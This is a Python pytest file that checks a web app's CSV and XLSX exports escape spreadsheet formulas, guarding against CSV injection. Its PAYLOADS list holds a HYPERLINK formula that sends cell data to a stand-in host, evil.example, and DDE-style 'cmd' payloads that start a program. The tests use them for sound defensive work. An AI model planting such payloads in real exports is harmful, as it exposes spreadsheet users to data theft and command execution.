"""Exports never write a live formula (OWASP CSV injection): a cell starting with ``= + -
@``, a tab or a carriage return is prefixed with ``'``, in CSV and XLSX, from the API and
from the screens' export (issue 17). Plain numbers, negative ones included, stay numbers.

Mutation caught: ``_cell`` in ``jimu/runtime/access/export.py`` returning the value as it
is (the formulas come back unescaped in every export below)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture
def hostile(api):
    """One item per payload (name and sku), owned by sales so both roles export them."""
    ids = []
    for n, text in enumerate(PAYLOADS):
        r = api.post("admin", "/api/apps/shop/data/item",
                     json={"sku": f"X-{n}", "name": text, "owner": "sales", "qty": -5, "sale_price": "-12.50"})
        assert r.status_code == 201, r.text
        ids.append(r.json()["id"])
    return ids


def test_neutralise_covers_tab_and_carriage_return():
    """Text fields are stripped on input, so a leading tab/CR cannot be stored through the
    API today; the writer still escapes them (a JSON or long-text cell may start so)."""
    from jimu.runtime.access.export import neutralise

    assert neutralise("\t=1+1") == "'\t=1+1" and neutralise("\r=1+1") == "'\r=1+1"
    assert neutralise("-12.50") == "-12.50" and neutralise("+3") == "+3" and neutralise("1e5") == "1e5"
    assert neutralise("-") == "'-" and neutralise("plain") == "plain"


def _csv_names(content: bytes) -> dict[str, dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    return {r["sku"]: r for r in rows}


def _assert_neutral(by_sku: dict[str, dict[str, object]]) -> None:
    for n, text in enumerate(PAYLOADS):
        row = by_sku[f"X-{n}"]
        assert row["name"] == "'" + text, (row["name"], text)
        assert str(row["qty"]) == "-5" and str(row["sale_price"]) == "-12.50", row  # numbers untouched


@pytest.mark.parametrize("user", ["admin", "sales"])
def test_api_csv_export_escapes_formulas(api, hostile, user):
    r = api.get(user, "/api/apps/shop/export", params={"entity": "item"})
    assert r.status_code == 200, r.text
    _assert_neutral(_csv_names(r.content))


def test_api_xlsx_export_has_no_formula_cells(api, hostile):
    r = api.get("admin", "/api/apps/shop/export", params={"entity": "item", "format": "xlsx"})
    assert r.status_code == 200, r.text
    ws = load_workbook(io.BytesIO(r.content)).active
    rows = list(ws.iter_rows(values_only=False))
    header = [c.value for c in rows[0]]
    assert all(c.data_type != "f" for row in rows for c in row), "a formula cell was written"
    by_sku = {}
    for row in rows[1:]:
        values = dict(zip(header, (c.value for c in row), strict=True))
        by_sku[values["sku"]] = values
    _assert_neutral(by_sku)


def test_screens_export_escapes_formulas(api, hostile):
    r = api.client.post("/api/auth/session", json={"username": "admin", "password": "admin"})
    assert r.status_code == 200, r.text
    for fmt in ("csv", "xlsx"):
        r = api.client.get(f"/app/shop/item/export.{fmt}")
        assert r.status_code == 200, r.text[:300]
        if fmt == "csv":
            # the screens export writes labels as headers: look at the cells themselves
            cells = {v for row in _all_rows(r.content) for v in row}
            assert not cells & set(PAYLOADS), cells & set(PAYLOADS)
            assert cells >= {"'" + text for text in PAYLOADS}
        else:
            ws = load_workbook(io.BytesIO(r.content)).active
            cells = [c for row in ws.iter_rows() for c in row]
            assert all(c.data_type != "f" for c in cells)
            assert {c.value for c in cells} >= {"'" + text for text in PAYLOADS}


def _all_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
